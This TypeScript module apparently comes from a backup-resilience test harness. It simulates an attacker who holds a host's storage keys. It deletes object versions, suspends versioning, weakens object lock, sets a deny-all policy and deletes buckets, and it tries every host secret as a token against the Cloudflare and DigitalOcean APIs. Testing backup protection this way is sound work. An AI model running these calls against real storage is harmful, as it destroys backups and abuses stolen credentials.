/** Attacks on a bucket through S3's own calls and its provider's API, with the keys that a host has. */
import { createHash } from "node:crypto";
import { AwsClient } from "aws4fetch";
import { ACCOUNT } from "../world.js";
import type { Answer } from "./damage.js";
import type { Part } from "../../plan/attack-claims.js";
import { partIn, setting, type Loot, type Target } from "./loot.js";
import { Tally, type Moves } from "./thief.js";
import { listObjects, listVersions, path } from "./vault-s3.js";

const DENY_ALL = (bucket: string): string =>
  JSON.stringify({
    Version: "2012-10-17",
    Statement: [
      {
        Effect: "Deny",
        Principal: "*",
        Action: "s3:*",
        Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`],
      },
    ],
  });

const ONE_DAY = `<LifecycleConfiguration><Rule><ID>x</ID><Status>Enabled</Status><Filter><Prefix></Prefix></Filter>
<Expiration><Days>1</Days></Expiration><NoncurrentVersionExpiration><NoncurrentDays>1</NoncurrentDays></NoncurrentVersionExpiration>
</Rule></LifecycleConfiguration>`;
const SUSPENDED = `<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>`;
const UNLOCKED = `<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule><DefaultRetention>
<Mode>GOVERNANCE</Mode><Days>1</Days></DefaultRetention></Rule></ObjectLockConfiguration>`;

/** The bucket with the host's own key. */
class Bucket {
  readonly keys: AwsClient;
  readonly url: string;

  constructor(private readonly target: Target) {
    const value = (key: string): string => setting(target, key);
    this.keys = new AwsClient({
      accessKeyId: value("ACCESS_KEY_ID"),
      secretAccessKey: value("SECRET_ACCESS_KEY"),
      service: "s3",
      region: "auto",
      retries: 0,
    });
    this.url = `${value("ENDPOINT")}/${target.root}`;
  }

  async call(tally: Tally, method: string, what: string, body?: string): Promise<void> {
    const md5 = createHash("md5")
      .update(body ?? "")
      .digest("base64");
    const sent = body === undefined ? {} : { body, headers: { "content-md5": md5 } };
    const answer = await this.keys.fetch(`${this.url}${what}`, { method, ...sent });
    const code = /<Code>(\w+)<\/Code>/.exec(await answer.text())?.[1] ?? "";
    tally.add(answer.ok, `${answer.status} ${code}`.trim());
  }

  /** Deletes every version of what belongs to a part; where there are no versions, the newest by that name. */
  async deleteVersions(part: Part): Promise<Answer> {
    const tally = new Tally();
    const versions = await listVersions(this.keys, this.url, "", true).catch((error: Error) => {
      tally.add(false, error.message);
      return listObjects(this.keys, this.url);
    });
    const belongs = partIn(this.target);
    for (const { key, version = "null" } of versions)
      if (belongs(key) === part) await this.call(tally, "DELETE", `/${path(key)}?versionId=${version}`);
    return tally;
  }
}

export function s3Moves(loot: Loot, target: Target, keys: string[], api: (vendor: string) => string): Moves {
  const bucket = new Bucket(target);
  const calls = async (...all: [method: string, what: string, body?: string][]): Promise<Answer> => {
    const tally = new Tally();
    for (const one of all) await bucket.call(tally, ...one);
    return tally;
  };
  const belongs = partIn(target);
  const of = (part: Part): string[] => keys.filter((key) => belongs(key) === part).map((key) => `/${path(key)}`);
  const backup = of("backups")[0]!;
  return {
    "copy/provider": () => provider(loot, target, api),
    "copy/retention": () =>
      calls(
        ["PUT", "?lifecycle=", ONE_DAY],
        ["DELETE", "?lifecycle="],
        ["PUT", "?versioning=", SUSPENDED],
        ["PUT", "?object-lock=", UNLOCKED],
        ["PUT", `${backup}?retention=`, `<Retention><Mode>GOVERNANCE</Mode></Retention>`],
      ),
    "copy/bucket": () => calls(["DELETE", ""]),
    "backups/rights": () => calls(["PUT", "?policy=", DENY_ALL(target.root)]),
    "backups/versions": () => bucket.deleteVersions("backups"),
    "repository/overwrite": () =>
      calls(
        ...of("repository").flatMap((key): [string, string, string][] => [
          ["PUT", key, "x"],
          ["PUT", key, ""],
        ]),
      ),
    "repository/delete": () => calls(...of("repository").map((key): [string, string] => ["DELETE", key])),
    "repository/versions": () => bucket.deleteVersions("repository"),
    "escrow/delete": () => calls(...of("escrow").map((key): [string, string] => ["DELETE", key])),
    "escrow/versions": () => bucket.deleteVersions("escrow"),
  };
}

/** Every secret of the host is tried as a token for the calls that would take the copy's protection away. */
async function provider(loot: Loot, { provider, root }: Target, api: (vendor: string) => string): Promise<Answer> {
  const bucket = `/client/v4/accounts/${ACCOUNT}/r2/buckets/${root}`;
  const all: [method: string, url: string, body?: unknown][] =
    provider === "Cloudflare"
      ? [
          ["PUT", `${api("cloudflare")}${bucket}/lock`, { rules: [] }],
          ["PUT", `${api("cloudflare")}${bucket}/lifecycle`, { rules: [] }],
          ["DELETE", `${api("cloudflare")}${bucket}`],
        ]
      : [
          [
            "POST",
            `${api("digitalocean")}/v2/spaces/keys`,
            { name: "x", grants: [{ bucket: "", permission: "fullaccess" }] },
          ],
        ];
  return bearer(loot, all);
}

/** Calls with each of the host's secrets as the token. */
export async function bearer(loot: Loot, all: [method: string, url: string, body?: unknown][]): Promise<Answer> {
  const tally = new Tally();
  for (const token of loot.candidates)
    for (const [method, url, body] of all) {
      const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
      const answer = await fetch(url, {
        method,
        headers,
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      });
      await answer.text();
      tally.add(answer.ok, `${answer.status} for ${loot.candidates.length} secrets`);
    }
  return tally;
}
